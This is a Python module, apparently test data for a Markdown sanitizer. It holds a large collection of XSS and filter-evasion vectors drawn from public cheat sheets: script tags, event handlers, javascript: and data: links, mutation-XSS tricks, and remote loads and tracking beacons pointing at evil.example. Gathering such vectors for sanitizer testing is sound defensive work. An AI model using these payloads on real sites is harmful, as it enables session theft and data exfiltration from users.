"""What people write to run a script in a page of others, or to make it ask another site for something.

Each is a piece of Markdown. One that works calls ``alert``, or asks for something at ``evil.example``. Sources: the
OWASP cheat sheets on filter evasion, DOMPurify's and cure53's collections, PortSwigger's cheat sheet, what was found in
Markdown renderers.
"""

from __future__ import annotations

EVIL = "https://evil.example"

_SCRIPTS = r"""
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script src=https://evil.example/x.js></script>
<script src="//evil.example/x.js"></script>
<script/src=https://evil.example/x.js></script>
<script type=module>alert(1)</script>
<script	>alert(1)</script	>
<script x>alert(1)</script y>
<script~~~>alert(1)</script~~~>
<script>alert(1)//
<script>alert(1)<!--
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script<script>>alert(1)</script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
</xmp><script>alert(1)</script>
--><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<!---><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<noscript><p title="</noscript><script>alert(1)</script>">
<xmp><p title="</xmp><script>alert(1)</script>">
<noembed><p title="</noembed><script>alert(1)</script>">
<template><script>alert(1)</script></template>
<div><template shadowrootmode=open><script>alert(1)</script></template></div>
<plaintext><script>alert(1)</script>
<a href="x"><script>alert(1)</script></a>
<b <script>alert(1)</script>0
<img ""><script>alert(1)</script>">
"""

_HANDLERS = r"""
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'>
<img src=x onerror=`alert(1)`>
<IMG SRC=X ONERROR=ALERT(1)>
<img/src=x/onerror=alert(1)>
<img	src=x	onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img src=x onerror&#61;alert(1)>
<img src=x onerror=&#97;lert(1)>
<img src=x one&#114;ror=alert(1)>
<img src=x onerror =alert(1)>
<img src="x"onerror="alert(1)">
<img src=x on\x00error=alert(1)>
<img src='x'onerror=alert(1) style=display:block>
<img src="/><img src=x onerror=alert(1)//">
<img src=`x`onerror=alert(1)>
<image src=x onerror=alert(1)>
<image href=x onerror=alert(1)>
<img srcset=x onerror=alert(1)>
<img src=x onload=alert(1) onerror=alert(1)>
<picture><source srcset=x onerror=alert(1)><img onerror=alert(1) src=x></picture>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1) src=x></video>
<video poster=javascript:alert(1)></video>
<video autoplay onloadstart=alert(1) src=x></video>
<video onplay=alert(1) autoplay><source src=/favicon.ico></video>
<audio src=x onerror=alert(1)>
<audio autoplay onloadstart=alert(1) src=x>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<button autofocus onfocus=alert(1)>x</button>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)><a href=#x>x</a>
<body onscroll=alert(1)><br><br><input autofocus>
<html onload=alert(1)>
<frameset onload=alert(1)>
<iframe onload=alert(1)>
<object onerror=alert(1) data=x>
<embed src=x onload=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<details open ontoggle=alert(1)>x</details>
<details/open/ontoggle="alert(1)">
<dialog open onclose=alert(1)>x</dialog>
<div onclick=alert(1)>x</div>
<div onmouseover="alert(1)">x</div>
<div onpointerenter=alert(1)>x</div>
<div onanimationstart=alert(1) style="animation:x">x</div>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)></b>
<div style="transition:all 1s" ontransitionend=alert(1)>x</div>
<div contenteditable onfocus=alert(1) autofocus>x</div>
<div tabindex=1 onfocus=alert(1) autofocus id=x>x</div>
<a onmouseover=alert(1) href=#>x</a>
<a href=x onclick=alert(1)>x</a>
<p oncopy=alert(1)>x</p>
<p onbeforeinput=alert(1) contenteditable>x</p>
<b onwheel=alert(1)>x</b>
<x onclick=alert(1)>x</x>
<x contenteditable onblur=alert(1)>x</x>
<table background=javascript:alert(1)><tr><td onclick=alert(1)>x</table>
<form onsubmit=alert(1)><button>x</button></form>
<isindex type=image src=1 onerror=alert(1)>
<link rel=stylesheet href=x onerror=alert(1)>
<style onload=alert(1)></style>
<track onerror=alert(1) src=x>
<meter onmouseover=alert(1)>0</meter>
<summary onfocus=alert(1) tabindex=1 autofocus>x</summary>
<img src=x hx-on:load="alert(1)">
<div hx-get="/api/v1/whoami" hx-trigger="load" hx-on::after-request="alert(1)">x</div>
<div data-hx-get="/" data-hx-trigger="load" hx-swap="outerHTML">x</div>
<button data-api="/api/v1/session" data-method="DELETE">x</button>
<form data-api="/api/v1/session" data-method="DELETE"><button>x</button></form>
<dialog data-show="javascript:alert(1)" open>x</dialog>
<div data-tabs="x"><section data-tab="<img src=x onerror=alert(1)>">x</section><section data-tab=y>y</section></div>
"""

_LINKS = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&#58;alert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))
[x](java%0ascript:alert(1))
[x](java&Tab;script:alert(1))
[x](java&NewLine;script:alert(1))
[x](<javascript:alert(1)>)
[x]( javascript:alert(1))
[x](&#1;javascript:alert(1))
[x](\x01javascript:alert(1))
[x](javascript://%0aalert(1))
[x](javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/)
[x](javascript:window.onerror=alert;throw%201)
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](DATA:text/html,alert)
[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)
[x](blob:https://evil.example/x)
[x](filesystem:https://evil.example/x)
[x](file:///etc/passwd)
[x](feed:javascript:alert(1))
[x](view-source:javascript:alert(1))
[x](jar:https://evil.example!/x)
[x](x "onmouseover=alert(1)")
[x](x "\" onmouseover=alert(1) \"")
[x](x '" onmouseover="alert(1)')
[x](https://example.org" onmouseover="alert(1))
[x](https://example.org/%22onmouseover=%22alert(1))
[a](javascript:alert(1)//)[b](x)
[<img src=x onerror=alert(1)>](x)
[x](<x" onclick="alert(1)>)
<javascript:alert(1)>
<data:text/html,<script>alert(1)</script>>
<https://example.org/"onmouseover="alert(1)>
https://example.org/"onmouseover="alert(1)
www.example.org/'onmouseover='alert(1)
javascript:alert(1)
a@b.c"onmouseover=alert(1)
<a href="javascript:alert(1)">x</a>
<a href="jAvAsCrIpT:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#14;javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="javascript&#x3A;alert(1)">x</a>
<a href="&#0000106avascript:alert(1)">x</a>
<a href=javascript&colon;alert&lpar;1&rpar;>x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href="x" target=_blank ping="https://evil.example/ping">x</a>
<a href=javascript:alert(1) download>x</a>
<area href=javascript:alert(1) shape=default>
<map name=m><area href=javascript:alert(1)></map><img usemap=#m src=x>
<base href="javascript:alert(1)//"><a href=x>x</a>
<base href="https://evil.example/">
<form action=javascript:alert(1)><input type=submit></form>
<button form=f formaction=javascript:alert(1)>x</button><form id=f></form>
<input type=submit formaction=javascript:alert(1)>
<isindex action=javascript:alert(1) type=submit>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe src=https://evil.example></iframe>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object data=https://evil.example/x></object>
<embed src=javascript:alert(1)>
<embed src=https://evil.example/x.swf>
<applet code=x codebase=https://evil.example></applet>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=https://evil.example">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=import href=https://evil.example/x>
<link rel=prefetch href=https://evil.example/x>
<link rel=preconnect href=https://evil.example>
<link rel=dns-prefetch href=//evil.example>
"""

_PICTURES = r"""
![x](https://evil.example/x.png)
![x](//evil.example/x.png)
![x](/\evil.example/x.png)
![x](\\evil.example/x.png)
![x](https:evil.example/x.png)
![x](HTTPS://EVIL.EXAMPLE/x.png)
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x](x"onerror="alert(1))
![x](x "\"onerror=\"alert(1)")
!["onerror="alert(1)](x)
![<img src=x onerror=alert(1)>](x)
![x" onerror="alert(1)](https://evil.example/x)
<img src=https://evil.example/x.png>
<img src=//evil.example/x.png>
<img src="/&#92;evil.example/x.png">
<img src="&#x2f;&#x2f;evil.example/x.png">
<img src="/&#9;/evil.example/x.png">
<img src="ht&#10;tps://evil.example/x.png">
<img srcset="https://evil.example/x.png 1x">
<img src=x srcset="https://evil.example/y.png 2x" sizes=100vw>
<img lowsrc=https://evil.example/x dynsrc=https://evil.example/y>
<img src=javascript:alert(1)>
<img src="jav&#x0A;ascript:alert(1);">
<picture><source srcset=https://evil.example/x.png><img src=x></picture>
<picture><source src=https://evil.example/x.png media="(min-width:1px)"><img src=x></picture>
<video src=https://evil.example/x.mp4 autoplay></video>
<video poster=https://evil.example/x.png></video>
<video><source src=https://evil.example/x.mp4></video>
<video><track src=https://evil.example/x.vtt default></video>
<audio src=https://evil.example/x.mp3 autoplay></audio>
<audio><source src=https://evil.example/x.mp3></audio>
<table background=https://evil.example/x.png><tr><td background=https://evil.example/y.png>x</table>
<body background=https://evil.example/x.png>
<input type=image src=https://evil.example/x.png>
<bgsound src=https://evil.example/x>
"""

_STYLES = r"""
<div style="background:url(https://evil.example/x.png)">x</div>
<div style="background-image:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="behavior:url(https://evil.example/x.htc)">x</div>
<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>
<div style="position:fixed;inset:0;z-index:99999">over everything</div>
<div style="content:url(https://evil.example/x.png)">x</div>
<p style="list-style:url(https://evil.example/x.png)">x</p>
<style>@import url(https://evil.example/x.css);</style>
<style>body{background:url(https://evil.example/x.png)}</style>
<style>*{display:none}</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}*{font-family:x}</style>
<p class="toasts dialog button skip">x</p>
<div id="content" class="bar">x</div>
<a id=texts>{}</a>
<form id=x name=body><input name=firstChild></form>
<img name=currentScript src=x>
"""

_FOREIGN = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=https://evil.example/x.js></script></svg>
<svg><script>alert&lpar;1&rpar;</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>
<svg><set attributeName=onload to=alert(1) /></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><image href=https://evil.example/x.png /></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"></use></svg>
<svg><use href="https://evil.example/x.svg#x"></use></svg>
<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><style>{font-family:'<img/src=x onerror=alert(1)>'}</style></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg><desc><p><style><img src=x onerror=alert(1)></style></desc></svg>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<svg xmlns="http://www.w3.org/2000/svg"><g onload="alert(1)"/></svg>
<svg><discard onbegin=alert(1)>
<svg><feImage href=https://evil.example/x.png /></svg>
<math href="javascript:alert(1)">x</math>
<math><mtext href=javascript:alert(1)>x</mtext></math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><style><img src=x onerror=alert(1)></style></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<math><mtext><option><X><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>">
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<table><math><mi><style><a title="</style><img src=x onerror=alert(1)>"></math></table>
<xml:namespace prefix=t><t:set attributeName=innerHTML to="<img src=x onerror=alert(1)>">
"""

_MANGLED = r"""
<p title="<img src=x onerror=alert(1)>">x</p>
<p title='"><img src=x onerror=alert(1)>'>x</p>
<p title="&quot;><img src=x onerror=alert(1)>">x</p>
<img src="x` `<script>alert(1)</script>"` `>
<img src=x onerror=alert(1)
<div/onclick=alert(1)/x
<//script><img src=x onerror=alert(1)>
<a<b onclick=alert(1)>x
</p onclick=alert(1)>
<br onclick=alert(1)/>
<!-- --!><img src=x onerror=alert(1)> -->
<!-- > --><img src=x onerror=alert(1)>
<!doctype html><img src=x onerror=alert(1)>
<? foo="><img src=x onerror=alert(1)>">
<! foo="><img src=x onerror=alert(1)>">
</ foo="><img src=x onerror=alert(1)>">
<% foo><x foo="%><img src=x onerror=alert(1)>">
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
＜script＞alert(1)＜/script＞
%3Cscript%3Ealert(1)%3C/script%3E
\<script>alert(1)\</script>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<select><template><img src=x onerror=alert(1)></template></select>
<table><td><form><img src=x onerror=alert(1)></table>
<a><table><a href=javascript:alert(1)>x</table>
<p><svg><p title="</svg><img src=x onerror=alert(1)>">
"""

_INSIDE = r"""
$<img src=x onerror=alert(1)>$
$$<script>alert(1)</script>$$
$\href{javascript:alert(1)}{x}$
$\url{javascript:alert(1)}$
$\includegraphics{https://evil.example/x.png}$
$\htmlData{x=<img src=x onerror=alert(1)>}{x}$
$\htmlStyle{background:url(https://evil.example/x)}{x}$
$\unicode{<script>alert(1)</script>}$
`<script>alert(1)</script>`
    <script>alert(1)</script>
# <img src=x onerror=alert(1)>
# "onmouseover="alert(1)
> [!NOTE]<img src=x onerror=alert(1)>
> [!"><img src=x onerror=alert(1)>]
- [x] <img src=x onerror=alert(1)>
:<img src=x onerror=alert(1)>:
~~<script>alert(1)</script>~~
**<img src=x onerror=alert(1)>**
<b>*</b><img src=x *onerror=alert(1)>*
*<img src="*" onerror=alert(1)>
_<a href="_" onclick=alert(1)>_
[<a href="](javascript:alert(1))" onclick=alert(1)>x</a>
@<img src=x onerror=alert(1)>
#1"onmouseover="alert(1)
"""

# Those of several lines, with a line of "====" between them.
_BLOCKS = r"""
[x](<java
script:alert(1)>)
====
[x][a]

[a]: javascript:alert(1)
====
[x][b]

[b]: data:text/html,<script>alert(1)</script> "t"
====
![x][c]

[c]: https://evil.example/x.png
====
<a title="x

y" href="javascript:alert(1)">x</a>
====
<div title="

```python
" onmouseover=alert(1) x="
```

">x</div>
====
<div title="

$" onmouseover=alert(1) x="$

">x</div>
====
<a title="

![" onmouseover=alert(1) x="](y)

">x</a>
====
a[^x]

[^x]: <img src=x onerror=alert(1)>
====
a[^"onmouseover="alert(1)]

[^"onmouseover="alert(1)]: x
====
| a |
|---|
| <img src=x onerror=alert(1)> |
====
| a<script>alert(1)</script> |
|---|
| [x](javascript:alert(1)) |
====
```html
<script>alert(1)</script>
```
====
```<img src=x onerror=alert(1)>
x
```
====
```"onmouseover="alert(1)
x
```
====
```math
\href{javascript:alert(1)}{x}
```
====
```mermaid
graph TD; A["<img src=x onerror=alert(1)>"]-->B; click A "javascript:alert(1)"
```
====
```mermaid
%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%
graph TD; A["<script>alert(1)</script>"]-->B
```
====
```mermaid
graph TD; A[<iframe src=https://evil.example></iframe>]
```
====
!!! warning "<img src=x onerror=alert(1)>"
    x
====
!!! x" onmouseover="alert(1)
    x
====
<details><summary><img src=x onerror=alert(1)></summary>

[x](javascript:alert(1))

</details>
====
---
title: <script>alert(1)</script>
---
"""

_LINES = (_SCRIPTS, _HANDLERS, _LINKS, _PICTURES, _STYLES, _FOREIGN, _MANGLED, _INSIDE)

VECTORS: list[str] = [
    vector.replace("\\x00", "\0").replace("\\x01", "\x01")
    for vector in (
        *(line for group in _LINES for line in group.split("\n") if line),
        *_BLOCKS.strip("\n").split("\n====\n"),
    )
]
